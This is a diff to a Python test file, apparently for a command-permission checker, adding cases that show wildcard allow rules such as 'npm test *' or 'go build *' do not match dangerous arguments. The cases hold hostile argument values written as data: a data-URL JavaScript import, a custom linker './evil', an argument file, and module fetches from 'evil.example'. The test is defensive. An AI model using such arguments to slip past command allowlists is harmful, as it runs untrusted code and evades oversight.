@@ -64,6 +64,15 @@ def test_names_after_one_dash_count_with_one_and_with_two(
         ("rg *", "rg --pr ./evil x"),
         ("find *", "find . -execdir id +"),
         ("pytest *", "pytest -qp evil"),
+        ("npm test *", "npm test -- --import=data:text/javascript,evil"),
+        ("cargo clippy *", "cargo clippy -- --emit=link --codegen linker=./evil"),
+        ("cargo clippy *", "cargo clippy -- @evil"),
+        ("git log *", "git log --remerge-d"),
+        ("git show *", "git show --diff-merges=r"),
+        ("git for-each-ref *", "git for-each-ref '--format=%(signature:grade)'"),
+        ("git for-each-ref *", "git for-each-ref --sort signature"),
+        ("go list *", "go list -m evil.example/secret@latest"),
+        ("go build *", "go build -mod=mod evil.example/secret"),
     ],
 )
 def test_a_rule_with_a_star_does_not_reach_them(rule: str, command: str) -> None:
